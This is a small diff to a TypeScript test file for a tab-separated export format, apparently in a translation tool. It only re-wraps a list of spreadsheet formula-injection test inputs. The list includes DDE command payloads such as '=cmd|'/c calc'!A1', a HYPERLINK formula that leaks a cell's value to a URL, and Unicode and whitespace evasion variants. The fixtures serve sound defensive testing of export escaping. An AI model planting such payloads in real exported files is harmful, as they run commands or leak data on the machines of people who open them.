@@ -12,7 +12,8 @@ import { tsv } from '../../../src/text/formats/tsv.ts'
 import { goldenPairs, header } from './pairs.ts'
 
 const formulas = ['=1+1', '=HYPERLINK("http://example.org/?x="&A1,"click")', '=cmd|\'/c calc\'!A1', '+1+cmd|x',
-  '-2+3+cmd|x', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\uff1d1+1', '\n=1+1', '"=1+1', ' =1+1', '\'=1', '\'\'=1', '=1+1,"=2+2"', '\u061b=1+1,=2', '-', '\u200f=1']
+  '-2+3+cmd|x', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\uff1d1+1', '\n=1+1', '"=1+1', ' =1+1', '\'=1', '\'\'=1', '=1+1,"=2+2"',
+  '\u061b=1+1,=2', '-', '\u200f=1']
 const asPairs = (texts: readonly string[]) => texts.map((text, index) =>
   ({ id: `p${index}`, source: text, target: text, status: 'translated', notes: [text], createdBy: text } as const))
 const write = (format: Format, pairs: readonly PairText[] = asPairs(formulas)) =>
